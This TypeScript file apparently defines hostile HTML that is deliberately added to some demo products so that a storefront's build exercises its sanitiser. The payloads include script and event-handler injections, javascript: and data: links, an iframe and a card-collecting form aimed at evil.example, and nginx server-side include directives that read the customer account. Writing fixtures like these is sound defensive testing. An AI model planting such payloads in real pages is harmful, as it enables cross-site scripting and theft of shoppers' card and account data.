/**
 * Markup a real catalogue can carry by mistake or by malice (copied from a supplier page,
 * typed by a merchandiser, imported from a feed). Some demo products carry it so that the
 * storefront's sanitising is exercised on every build, not only in unit tests: the built
 * pages must render it inert ("a product with a hostile description renders
 * inert"). Every product whose index satisfies `isHostileIndex` gets it appended.
 */
export const HOSTILE_DESCRIPTION_HTML = [
  '<p>Supplier notes follow.</p>',
  '<script>alert("description script")</script>',
  '<img src="/api/media/products/part-1.svg" onerror="alert(\'onerror\')" onload="alert(1)" alt="">',
  '<p><a href="javascript:alert(\'link\')">Spec sheet</a> <a href="data:text/html,<script>alert(2)</script>">Data link</a></p>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Overlay</div>',
  '<svg><script>alert(3)</script></svg>',
  '<form action="https://evil.example/steal"><input name="card"></form>',
  '<p onclick="alert(4)" onmouseover="alert(5)">Hover me</p>',
  // nginx fills server-side includes as it serves a page (src/lib/shell/shell-parts.ts): one
  // left in a page would put the shopper's account into it.
  '<!--# include virtual="/api/customer/account" --><p>Fits <!--#echo var="remote_addr" --> all</p>',
].join('\n');

/** A title with the inline markup the spec allows on desktop, and some it does not. */
export const marked = (title: string): string =>
  title.replace(/^(\S+)/, '<strong>$1</strong>') +
  '<script>alert("title")</script><!--# include virtual="/api/customer/account" -->';

/** Which demo products carry hostile markup: index 19, then every 500th after it. */
export const isHostileIndex = (index: number): boolean => index % 500 === 19;
